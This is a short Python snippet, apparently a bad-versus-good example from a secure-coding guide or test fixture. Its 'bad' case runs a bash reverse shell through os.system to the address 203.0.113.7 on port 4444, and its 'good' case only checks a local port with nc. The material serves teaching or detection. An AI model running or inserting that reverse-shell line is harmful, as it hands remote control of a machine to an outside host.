# bad: through a shell string
import os

os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'")
# good: nearly: asks a port
import os

os.system("nc -z localhost 5432")
